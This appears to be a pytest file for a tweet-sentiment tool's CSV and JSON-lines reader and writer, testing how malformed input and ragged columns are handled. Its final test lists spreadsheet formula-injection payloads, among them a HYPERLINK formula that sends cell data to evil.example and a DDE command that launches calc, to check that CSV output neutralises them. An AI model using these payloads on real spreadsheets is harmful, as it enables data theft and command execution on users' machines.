"""Reading and writing archive rows (tweet_sentiment/tabular.py) with the files a hostile probe found: none may
raise, lose a row silently or reach a spreadsheet as a formula."""

from __future__ import annotations

import csv
import io
import json

import pytest

from tweet_sentiment.tabular import (
    MAX_COLUMNS,
    NOT_JSON_NUMBER,
    NOT_UTF8,
    ChunkStream,
    FileRefused,
    Notes,
    read,
    text_of_rows,
    text_stream,
)


def rows_of(data: bytes, kind: str = "csv", chunk: int = 7) -> tuple[list[dict], Notes]:
    """The rows of `data`, downloaded in small chunks as a blob is."""
    notes = Notes()
    stream = text_stream(io.BufferedReader(ChunkStream(data[i : i + chunk] for i in range(0, len(data), chunk))))
    return list(read(stream, kind, notes)), notes


def test_old_mac_line_ends_and_a_byte_order_mark_are_read():
    rows, _ = rows_of(b"\xef\xbb\xbfid,text\r0,great flight\r1,lost bag\r")
    assert rows == [{"id": "0", "text": "great flight"}, {"id": "1", "text": "lost bag"}]


def test_a_field_too_long_to_hold_is_one_unreadable_row_and_the_rest_is_read():
    rows, notes = rows_of(b"id,text\n0,ok\n1," + b"x" * 300_000 + b"\n2,fine\n", chunk=4096)
    assert [row.get("id") for row in rows] == ["0", None, "2"]
    assert rows[1]["error"].startswith("line 3: longer than") and notes.unreadable_rows == 1


def test_a_stray_quote_does_not_swallow_the_rest_of_the_file():
    lines = [f'{index},"tweet {index}, fine"' for index in range(3000)]
    lines[5] = '5,"a quote never closed'
    rows, notes = rows_of(("id,text\n" + "\n".join(lines) + "\n").encode(), chunk=4096)
    assert [row["id"] for row in rows] == [str(index) for index in range(3000)]
    assert rows[5]["text"] == '"a quote never closed' and "never closed" in rows[5]["warnings"]
    assert rows[6]["text"] == "tweet 6, fine" and notes.unreadable_rows == 0


def test_json_lines_that_cannot_be_read_are_rows_with_their_error():
    deep = b'{"text": ' + b"[" * 3000 + b"]" * 3000 + b"}"
    rows, _ = rows_of(b'{"text": "ok"}\n' + deep + b"\n[1, 2]\nnot json\n", "jsonl")
    assert rows[0] == {"text": "ok"}
    assert [row["error"] for row in rows[1:]] == [f"line {n} is not a JSON object" for n in (2, 3, 4)]


def test_a_tweet_cut_mid_emoji_and_bytes_that_are_not_utf8_are_replaced_and_said():
    rows, notes = rows_of(b'{"text": "great flight \\ud83d"}\n', "jsonl")
    assert rows == [{"text": "great flight \ufffd", "warnings": NOT_UTF8}]
    latin1, _ = rows_of("id,text\n0,vol annulé\n".encode("latin-1"))
    assert latin1[0]["text"] == "vol annul\ufffd" and latin1[0]["warnings"] == NOT_UTF8
    assert text_of_rows(rows + latin1, "jsonl", [], False).encode("utf-8")  # writable, whatever came in
    assert notes.changes[NOT_UTF8] == 1


def test_numbers_json_cannot_carry_become_null_and_the_output_is_json():
    rows, _ = rows_of(b'{"text": "ok", "a": NaN, "b": 1e999, "c": [Infinity]}\n', "jsonl")
    out = text_of_rows(rows, "jsonl", [], False)
    parsed = json.loads(out, parse_constant=lambda name: pytest.fail(f"{name} in the output"))
    assert (parsed["a"], parsed["b"], parsed["c"]) == (None, None, [None]) and parsed["warnings"] == NOT_JSON_NUMBER


def test_every_input_column_is_kept_under_a_name_of_its_own():
    rows, notes = rows_of(b"text,label,error,language,text,\nhello,neg,none,fr,again,x\n")
    assert rows == [
        {
            "text": "hello",
            "input_label": "neg",
            "input_error": "none",
            "input_language": "fr",
            "text_5": "again",
            "column_6": "x",
        }
    ]
    assert notes.renamed_columns["label"] == "input_label"


def test_ragged_rows_keep_their_cells_and_say_why_they_are_not_scored():
    rows, notes = rows_of(b"id,text\n0,ok\n1,too,many,cells\n2\n")
    assert rows[0] == {"id": "0", "text": "ok"}
    assert rows[1]["error"] == "line 3: 4 cells where the header has 2" and rows[1]["text"] == "too"
    assert rows[2]["error"] == "line 4: 1 cells where the header has 2" and notes.unreadable_rows == 2


def test_a_file_wider_than_a_worker_can_hold_is_refused():
    header = ",".join(f"c{index}" for index in range(10_000)).encode()
    with pytest.raises(FileRefused, match=f"10000 columns: at most {MAX_COLUMNS}"):
        rows_of(header + b"\n" + b"x," * 9_999 + b"x\n", chunk=65536)


def test_csv_cells_never_reach_a_spreadsheet_as_formulas_and_json_lines_are_untouched():
    hostile = [
        '=HYPERLINK("http://evil.example/?x="&A1,"click")',
        "+cmd|' /C calc'!A0",
        "-2+3",
        "@united lost my bag",
        "\t=1+1",
    ]
    rows = [{"text": cell, "followers": "-12.5", "note": "=1"} for cell in hostile]
    out = list(csv.reader(io.StringIO(text_of_rows(rows, "csv", ["text", "followers", "note"], header=True))))
    assert all(cell.startswith("'") for row in out[1:] for cell in (row[0], row[2]))
    assert {row[1] for row in out[1:]} == {"-12.5"}  # a plain number is not a formula
    assert [json.loads(line)["text"] for line in text_of_rows(rows, "jsonl", [], False).splitlines()] == hostile
